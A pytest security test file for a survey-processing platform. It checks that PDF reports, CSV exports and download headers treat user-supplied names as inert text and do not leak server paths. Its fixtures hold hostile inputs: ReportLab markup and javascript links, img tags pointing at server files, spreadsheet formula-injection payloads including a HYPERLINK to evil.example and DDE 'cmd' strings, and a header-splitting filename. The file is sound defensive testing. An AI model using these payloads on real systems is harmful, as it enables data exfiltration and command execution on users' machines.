"""User text is text everywhere it is rendered: the PDF report (ReportLab Paragraph markup), CSV exports
(spreadsheet formulas), download headers; and what users get back names files, not the worker's folders
(the report, the RTKLIB .pos header).

The end-to-end test runs the gnss and report steps on the embedded platform with a real worker process;
the others call the report builder directly or read results through the API on both database shapes."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
from pathlib import Path

import pytest

from backend.services.report_pdf import build_report

from ..backend.platform_helpers import (POINTS_CSV, Api, add_user, close_platform, make_platform, start_worker, upload_bytes,
                                        wait_run, zip_folder)
from .conftest import has_image, pdf_text

MARKUP_NAMES = ['<b>unclosed', '<font size="80" color="red">big', '<para>', '</para>x', 'a & b < c > d',
                '<br/><br/>', '<a href="javascript:alert(1)">link</a>', '<unknowntag attr="x">', '&bogus;',
                "ctrl\x00\x07\x1bchars", "<![CDATA[ x ]]>", '<img src="/does/not/exist.png"/>']


def _image(path: Path) -> Path:
    from PIL import Image

    Image.new("RGB", (16, 16), (200, 30, 30)).save(path)
    return path


def _run_folder(tmp: Path) -> Path:
    """A worker-like run folder: out/ beside survey/, a GNSS summary whose warnings name files by their
    absolute path, as the science library writes them."""
    run = tmp / "work" / "runs" / "3f1c0e2a-run"
    out = run / "out"
    (out / "ppk").mkdir(parents=True)
    (out / "ppk" / "summary.json").write_text(json.dumps({
        "epochs": 100, "fix": 99, "float": 1, "single": 0, "fix_rate": 0.99,
        "warnings": [f"rover file {run}/survey/rover/flight.obs: 3 gaps", f"base {tmp}/elsewhere/base.24o is short",
                     "clock jump in /var/lib/georef/cache/nav/brdc1750.24n"]}))
    return out


def test_report_renders_names_as_text(tmp_path):
    """Each name is drawn exactly as typed (title, site line, tables, step notes), and none breaks the
    report: a stray '<' used to fail the step with "internal error"."""
    out = _run_folder(tmp_path)
    problems = []
    for i, name in enumerate(MARKUP_NAMES):
        meta = {"site": name, "crs": "EPSG:32653", "vertical_datum": name, "survey": name, "flown_at": name,
                "run_number": 3, "steps": [{"name": "gnss", "state": "failed", "error": name}],
                "volumes": [{"name": name, "base": "plane", "volume_m3": 12.5}], "previous": {}}
        pdf = tmp_path / f"report{i}.pdf"
        try:
            build_report(out, pdf, meta)
        except Exception as exc:      # noqa: BLE001 - what the worker records as "internal error"
            problems.append((name, f"report failed: {type(exc).__name__}"))
            continue
        data = pdf.read_bytes()
        text = pdf_text(data)
        shown = "".join(c if c >= " " else "?" for c in name)
        first = text.split("\n", 1)[0]
        if has_image(data):
            problems.append((name, "image embedded"))
        if first != f"Accuracy report: {shown}":
            problems.append((name, f"title drawn as {first!r}"))
        if f"Site {shown}, project CRS" not in text.replace("\n", ""):
            problems.append((name, "site line altered"))
    assert not problems, problems


def test_report_does_not_embed_server_files(tmp_path):
    secret = _image(tmp_path / "server_secret.jpg")
    name = f'<img src="{secret}" width="400" height="400"/>'
    out = _run_folder(tmp_path)
    meta = {"site": name, "crs": "EPSG:32653", "survey": name, "run_number": 1,
            "steps": [{"name": "gnss", "state": "succeeded", "error": name}],
            "volumes": [{"name": name, "base": "plane", "volume_m3": 1.0}]}
    pdf = tmp_path / "report.pdf"
    build_report(out, pdf, meta)
    data = pdf.read_bytes()
    assert not has_image(data), "a file of the server was embedded in the report"
    assert "<img src=" in pdf_text(data)


def test_report_names_files_not_worker_folders(tmp_path):
    out = _run_folder(tmp_path)
    run = out.parent
    meta = {"site": "S", "crs": "EPSG:32653", "survey": "F", "run_number": 2, "steps": [
        {"name": "gnss", "state": "failed", "error": f"{run}/survey/rover/flight.obs: no epochs"},
        {"name": "georef", "state": "failed",
         "error": f"internal error (FileNotFoundError: [Errno 2] No such file: '{run}/out/ppk/events.csv')"},
        {"name": "dense", "state": "failed", "error": "internal error (KeyError: '/opt/georef/lib/dense/x.py')"}]}
    pdf = tmp_path / "report.pdf"
    summary = build_report(out, pdf, meta)
    text = pdf_text(pdf.read_bytes())
    for leak in (str(tmp_path), "/work/runs", "/var/lib/georef", "/opt/georef", "3f1c0e2a-run"):
        assert leak not in text, (leak, text)
    for shown in ("flight.obs", "base.24o", "brdc1750.24n", "events.csv"):
        assert shown in text, (shown, text)
    assert "/" not in summary["pdf"]


# ------------------------------------------------------------------------------------------- CSV exports

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _neutral(cell: str) -> bool:
    if not cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        return True
    try:
        float(cell)           # a signed number is data
        return True
    except ValueError:
        return False


@pytest.fixture(scope="module")
def exports(platform):
    """A run with a volumes table (stockpiles named like formulas) and a residual table whose point names
    are formulas: what the volumes and georef steps record, written here directly."""
    from backend.models import Run, RunOutput, VolumeMeasurement
    from backend.storage import blob_key

    add_user(platform, f"csv-{platform.shape}@example.org", org_admin=True)
    api = Api(platform, f"csv-{platform.shape}@example.org")
    site = api.post("/api/v1/sites", json={"name": "CSV", "crs": "EPSG:32653"}).json()
    survey = api.post(f"/api/v1/sites/{site['id']}/surveys", json={"name": "=1+1"}).json()
    assert upload_bytes(api, survey["id"], "points.csv", POINTS_CSV, kind="points").status_code == 200
    run = api.post(f"/api/v1/surveys/{survey['id']}/runs", json={"steps": ["gnss"]}).json()
    outline = {"type": "Polygon", "coordinates": [[[0, 0], [4, 0], [4, 4], [0, 4], [0, 0]]]}
    residuals = "name,role,dx_m,dy_m,dz_m,d_m\n" + "".join(
        f"\"{f.replace(chr(34), chr(34) * 2)}\",check,-0.004,0.002,-0.010,0.011\n" for f in FORMULAS) + \
        "T9,check,-0.001,+0.002,-1e-3,0.003\n"
    sha = hashlib.sha256(residuals.encode()).hexdigest()
    platform.app.state.storage.put_bytes(blob_key(sha), residuals.encode())
    piles = []
    for f in FORMULAS:
        pile = api.post(f"/api/v1/sites/{site['id']}/stockpiles", json={"name": f, "outline": outline})
        assert pile.status_code == 201, pile.text
        piles.append(pile.json()["id"])
    with platform.db().session() as s:
        r = s.get(Run, run["id"])
        for i, (f, pile_id) in enumerate(zip(FORMULAS, piles)):
            s.add(VolumeMeasurement(run_id=r.id, survey_id=r.survey_id, site_id=r.site_id, stockpile_id=pile_id,
                                    stockpile_name=f, base="plane", volume_m3=-1.5 + i, cut_m3=1.0, fill_m3=2.5,
                                    area_m2=16.0))
        s.add(RunOutput(run_id=r.id, step_name="georef", path="residuals.csv", sha256=sha, size=len(residuals)))
    return api, run["id"]


@pytest.mark.parametrize("what", ["volumes", "residuals"])
def test_csv_exports_neutralise_formulas(exports, what):
    api, run_id = exports
    r = api.get(f"/api/v1/runs/{run_id}/results/{what}?format=csv")
    assert r.status_code == 200, r.text
    rows = list(csv.reader(io.StringIO(r.text)))
    cells = [c for row in rows for c in row]
    bad = [c for c in cells if not _neutral(c)]
    assert not bad, f"cells a spreadsheet would run as formulas: {bad}"
    names = {row[rows[0].index("name")] for row in rows[1:]}
    assert {"'" + f for f in FORMULAS} <= names
    # numbers keep their sign: data, not formulas
    assert any(c.startswith("-") for c in cells)
    # and the JSON keeps the names as they are (the residual table's parser trims spaces around them)
    j = api.get(f"/api/v1/runs/{run_id}/results/{what}").json()
    items = j["stockpiles"] if what == "volumes" else j["points"]
    assert {f.strip() for f in FORMULAS} <= {x["name"].strip() for x in items}


def test_csv_output_files_neutralise_formulas_too(exports):
    """The same table downloaded as a plain output file."""
    api, run_id = exports
    r = api.get(f"/api/v1/runs/{run_id}/results/files/residuals.csv")
    assert r.status_code == 200, r.text
    cells = [c for row in csv.reader(io.StringIO(r.text)) for c in row]
    assert not [c for c in cells if not _neutral(c)]


def test_download_names_cannot_break_the_header(exports, platform):
    """A file name with quotes, separators or line breaks stays one quoted ASCII filename parameter
    (the exact name goes in RFC 5987 filename*)."""
    from backend.models import RunOutput
    from backend.storage import blob_key

    api, run_id = exports
    data = b"not a real ortho"
    sha = hashlib.sha256(data).hexdigest()
    platform.app.state.storage.put_bytes(blob_key(sha), data)
    name = 'ortho"; filename="evil.html'
    with platform.db().session() as s:
        s.add(RunOutput(run_id=run_id, step_name="dense", path=f"dense/{name}.tif", sha256=sha, size=len(data)))
    r = api.get(f"/api/v1/runs/{run_id}/results/files/dense/{name}.tif")
    assert r.status_code == 200, r.text
    cd = r.headers["content-disposition"]
    assert re.fullmatch(r'attachment; filename="[A-Za-z0-9._ -]*"(; filename\*=UTF-8\'\'[A-Za-z0-9%._~-]+)?', cd), cd


# ------------------------------------------------------------------------------------------- end to end


@pytest.fixture
def embedded(tmp_path):
    p = make_platform(tmp_path, "embedded", queue="sec-report")
    yield p
    close_platform(p)


@pytest.mark.slow
def test_report_step_with_hostile_names_end_to_end(embedded, small_survey, tmp_path):
    """A survey named <img src="<a file of the server>"/> and a site named with broken markup: the report
    step succeeds, embeds nothing, shows the names as typed; neither the report nor the .pos header names
    the worker's folders."""
    p = embedded
    secret = _image(tmp_path / "server_only.jpg")
    add_user(p, "report@example.org", org_admin=True)
    api = Api(p, "report@example.org")
    site = api.post("/api/v1/sites", json={"name": "<b>Quarry & Co", "crs": "EPSG:32653"}).json()
    survey = api.post(f"/api/v1/sites/{site['id']}/surveys",
                      json={"name": f'<img src="{secret}" width="300" height="300"/>'}).json()
    r = upload_bytes(api, survey["id"], "gnss.zip", zip_folder(small_survey, skip=("truth/", "images/")),
                     chunk=256 * 1024)
    assert r.status_code == 200, r.text
    start_worker(p, "sec-report")
    run = api.post(f"/api/v1/surveys/{survey['id']}/runs", json={"steps": ["gnss", "report"]}).json()
    final = wait_run(api, run["id"], timeout_s=240)
    steps = {s["name"]: s for s in final["step_details"]}
    assert steps["report"]["state"] == "succeeded", steps["report"]
    pdf = api.get(f"/api/v1/runs/{run['id']}/results/report.pdf").content
    assert pdf[:4] == b"%PDF"
    assert not has_image(pdf), "the report embedded a file of the server"
    text = pdf_text(pdf).replace("\n", "")
    assert "<img src=" in text and "<b>Quarry & Co" in text
    work = str(p.settings.resolved_work_dir())
    assert work not in text and str(p.data_dir) not in text
    pos = api.get(f"/api/v1/runs/{run['id']}/results/trajectory?format=pos").text
    inputs = [line.split(":", 1)[1].strip() for line in pos.splitlines() if line.startswith("% inp file")]
    assert inputs, pos[:500]
    assert all("/" not in f and "\\" not in f for f in inputs), inputs
    assert work not in pos and str(p.data_dir) not in pos
